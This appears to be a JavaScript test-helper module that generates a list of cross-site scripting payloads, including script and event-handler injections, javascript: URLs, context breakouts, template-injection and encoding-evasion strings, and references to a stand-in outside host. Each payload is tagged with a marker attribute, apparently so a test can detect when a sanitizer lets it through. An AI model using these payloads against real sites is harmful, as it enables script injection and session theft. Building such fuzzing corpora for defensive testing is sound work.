// What strangers send in the hope that somebody's browser runs it. Each would leave an element or an
// attribute `data-pwned` behind.

const M = 'data-pwned';

const ELEMENTS = [
  `<script ${M}>alert(1)</script>`, `<ScRiPt ${M} src=//x.example/x.js></ScRiPt>`, `<img src=x onerror=alert(1) ${M}>`,
  `<svg onload=alert(1) ${M}>`, `<svg><script ${M}>alert(1)</script></svg>`, `<svg><animate onbegin=alert(1) attributeName=x ${M}>`,
  `<iframe srcdoc="<script>alert(1)</script>" ${M}>`, `<iframe src=javascript:alert(1) ${M}>`, `<object data=javascript:alert(1) ${M}>`,
  `<embed src=javascript:alert(1) ${M}>`, `<base href=//x.example/ ${M}>`, `<meta http-equiv=refresh content=0;url=//x.example ${M}>`,
  `<link rel=stylesheet href=//x.example/x.css ${M}>`, `<style ${M}>*{background:url(//x.example)}</style>`,
  `<form action=//x.example ${M}><button>x</button></form>`, `<input autofocus onfocus=alert(1) ${M}>`,
  `<details open ontoggle=alert(1) ${M}>x</details>`, `<video src=x onerror=alert(1) ${M}></video>`,
  `<audio src=x onerror=alert(1) ${M}></audio>`, `<body onload=alert(1) ${M}>`, `<marquee onstart=alert(1) ${M}>x</marquee>`,
  `<math><mi xlink:href=javascript:alert(1) ${M}>x</mi></math>`, `<a href=javascript:alert(1) ${M}>x</a>`,
  `<button formaction=javascript:alert(1) ${M}>x</button>`, `<select autofocus onfocus=alert(1) ${M}></select>`,
  `<textarea autofocus onfocus=alert(1) ${M}>`, `<div style=position:fixed;inset:0 ${M}>x</div>`,
  `<table background=//x.example ${M}>`, `<noscript><p title="</noscript><img src=x onerror=alert(1) ${M}>">`,
  `<template><img src=x onerror=alert(1) ${M}></template>`, `<x onclick=alert(1) tabindex=1 ${M}>x</x>`,
  `<img/src=x/onerror=alert(1)/${M}>`, `<<script ${M}>alert(1)//<</script>`, `<img src=x onerror="alert\`1\`" ${M}>`,
];

const BREAKOUTS = [
  '', '">', "'>", '</textarea>', '</pre>', '</title>', '-->', '</script>', ']]>', '</style>', '" autofocus x="', '</dd></dl>',
];

const TEXTS = [
  `" onmouseover=alert(1) ${M} x="`, `' onmouseover=alert(1) ${M} x='`, '` onmouseover=alert(1) `', 'javascript:alert(1)',
  'JaVaScRiPt:alert(1)', 'java\tscript:alert(1)', 'data:text/html,<script>alert(1)</script>', 'vbscript:msgbox(1)',
  '{{constructor.constructor("alert(1)")()}}', '${alert(1)}', '#{alert(1)}', '<%= alert(1) %>', '{% raw %}', '&lt;script&gt;alert(1)',
  '&#60;script&#62;alert(1)', '\\u003cscript\\u003ealert(1)', '%3Cscript%3Ealert(1)%3C/script%3E', '%253Cscript%253E',
  '+ADw-script+AD4-alert(1)', '\uff1cscript\uff1ealert(1)', '\u202e<tpircs>', '\u2028alert(1)//', '<!--', '<![CDATA[', '</', '<',
  '&', '&quot;', '"', "'", '\\', '//x.example', '\\\\x.example', 'https://x.example/"><img src=x onerror=alert(1)>',
];

/** Each with every way out of where it may be put; `few` of them, evenly, where time is short. */
export function payloads(few = Infinity) {
  const elements = ELEMENTS.flatMap((element, i) =>
    BREAKOUTS.filter((_, j) => j === 0 || (i + j) % 4 === 0).map(out => out + element));
  const all = [...elements, ...TEXTS];
  const step = Math.max(1, all.length / few);
  return all.filter((_, i) => Math.floor(i / step) !== Math.floor((i - 1) / step));
}
